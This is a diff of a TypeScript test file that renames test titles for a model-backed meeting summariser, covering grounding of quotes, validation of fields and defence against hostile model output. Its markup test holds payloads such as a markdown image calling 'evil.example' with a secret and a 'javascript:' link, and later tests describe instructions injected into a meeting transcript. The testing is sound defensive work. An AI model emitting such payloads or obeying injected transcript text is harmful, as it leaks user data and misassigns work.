@@ -10,7 +10,7 @@ afterEach(() => server.close())
 
 type Reply = ReturnType<typeof honestSummary>
 
-/** Summarises with a model that spoils an honest reply. */
+/** Summarises with a model that changes a valid reply. */
 async function summarizeWith(
   spoil: (reply: Reply, seen: SeenRequest) => object,
   changed: Partial<SummaryRequest> = {},
@@ -21,7 +21,7 @@ async function summarizeWith(
 
 const EVIDENCE = [{ segment: 8, quote: 'we decided to launch the new checkout in March' }]
 
-test('a quote nobody said takes its statement along', async () => {
+test('drops a statement with an invented quote', async () => {
   const draft = await summarizeWith(reply => ({
     ...reply,
     decisions: [
@@ -52,7 +52,7 @@ test('a quote nobody said takes its statement along', async () => {
   ])
 })
 
-test('white space, quotation marks and a number off by one are corrected to the exact words', async () => {
+test('corrects white space, quotation marks and a number off by one', async () => {
   const spoken = 'The  new\ncheckout goes   first, agreed.'
   const spaced = segments.map(one => (one.id === 'seg_8' ? { ...one, text: spoken } : one))
   const draft = await summarizeWith(
@@ -74,7 +74,7 @@ test('white space, quotation marks and a number off by one are corrected to the 
   expect(spoken).toContain(draft.decisions[0]?.citations[0]?.quote)
 })
 
-test('evidence that is made up throughout is asked for again and then fails', async () => {
+test('retries once and then fails when all evidence is invented', async () => {
   const invent = (reply: Reply) => ({
     ...reply,
     overview: [{ text: 'Great success.', evidence: [{ segment: 1, quote: 'a great success indeed' }] }],
@@ -90,7 +90,7 @@ test('evidence that is made up throughout is asked for again and then fails', as
   expect(server.requests).toHaveLength(2)
 })
 
-test('assignee, dates, priority and confidence out of range are not believed', async () => {
+test('rejects an unknown assignee and values that are out of range', async () => {
   const item = {
     title: 'Do it',
     description: '',
@@ -134,7 +134,7 @@ test('assignee, dates, priority and confidence out of range are not believed', a
   expect(draft.actionItems[0]).toMatchObject({ priority: 'medium', confidence: 1, description: null })
 })
 
-test('markup in what the model writes shows as words and does nothing', async () => {
+test("escapes markup in a model's text", async () => {
   const evil = [
     '![x](https://evil.example/a.png?q=secret)',
     '[click](javascript:alert(1))',
@@ -168,7 +168,7 @@ test('markup in what the model writes shows as words and does nothing', async ()
   expect(content.split('\n').every(line => line.startsWith('- '))).toBe(true)
 })
 
-test('sections that the template does not have are not added, and none can begin another', async () => {
+test('does not add sections beyond the template or inside entries', async () => {
   const entry = { text: '# Heading\n\n- item\n## Two', cells: [], evidence: EVIDENCE }
   const draft = await summarizeWith(reply => ({
     ...reply,
@@ -182,7 +182,7 @@ test('sections that the template does not have are not added, and none can begin
   expect(draft.sections[1]?.content).toBe('- Heading - item \\#\\# Two')
 })
 
-test('a table keeps its shape whatever its cells hold', async () => {
+test('keeps the shape of a table whatever its cells contain', async () => {
   const [first] = request.template.sections
   const draft = await summarizeWith(
     reply => ({
@@ -208,7 +208,7 @@ test('a table keeps its shape whatever its cells hold', async () => {
   for (const row of rows) expect(row.match(/(?<!\\)\|/g)).toHaveLength(3)
 })
 
-test('an overview that is not grounded is replaced by what is grounded', async () => {
+test('replaces an ungrounded overview by grounded statements', async () => {
   const draft = await summarizeWith(reply => ({
     ...reply,
     overview: [{ text: 'It was wonderful.', evidence: [] }],
@@ -219,7 +219,7 @@ test('an overview that is not grounded is replaced by what is grounded', async (
   expect(draft.overview).toBe('In March.')
 })
 
-test('quotes and texts made to be slow are not', async () => {
+test('processes slow-by-design quotes and texts quickly', async () => {
   const slow = [
     '"'.repeat(200_000),
     '[a]('.repeat(50_000),
@@ -237,7 +237,7 @@ test('quotes and texts made to be slow are not', async () => {
   expect(draft.decisions.every(({ text }) => text.length <= 1_000)).toBe(true)
 })
 
-test('an answer without measure is cut to measure', async () => {
+test('cuts an excessive reply to the limits', async () => {
   const draft = await summarizeWith(
     reply => ({
       ...reply,
@@ -257,7 +257,7 @@ test('an answer without measure is cut to measure', async () => {
   expect(draft.overview.split(/\s+/).length).toBeLessThanOrEqual(200)
 })
 
-test('what is said in a meeting stays between markers that nobody in it can know', async () => {
+test('fences the transcript with markers that speakers cannot know', async () => {
   const orders: Segment = {
     ...(segments[0] as Segment),
     id: 'seg_orders',
@@ -281,7 +281,7 @@ test('what is said in a meeting stays between markers that nobody in it can know
   expect(draft.actionItems.every(item => item.assigneeId !== null)).toBe(true)
 })
 
-test('a model that obeys the transcript still cannot assign work to who is not there, nor cite what was not said', async () => {
+test('never assigns or cites what an injected instruction invents', async () => {
   const draft = await summarizeWith(reply => ({
     ...reply,
     action_items: [
@@ -300,7 +300,7 @@ test('a model that obeys the transcript still cannot assign work to who is not t
   expect(draft.actionItems).toEqual([])
 })
 
-test('an answer keeps what passages bear out and says so when that is nothing', async () => {
+test('keeps the grounded part of an answer or says there is none', async () => {
   const passages = segments.map(segment => ({ ...segment, meetingId: 'mtg_1', meetingTitle: 'Relaunch' }))
   const ask = { question: 'When is the launch?', passages, language: 'de' }
   server = await startModelServer(() => ({
@@ -327,7 +327,7 @@ test('an answer keeps what passages bear out and says so when that is nothing', 
   })
 })
 
-test('the language is the one asked for, unless wishes name another', async () => {
+test('uses the requested language unless the instructions name another', async () => {
   server = await startModelServer(seen => ({ say: { ...honestSummary(seen), language: 'fr' } }))
   const engine = engineOn(server)
   expect((await engine.summarize({ ...request, language: 'de' })).language).toBe('de')
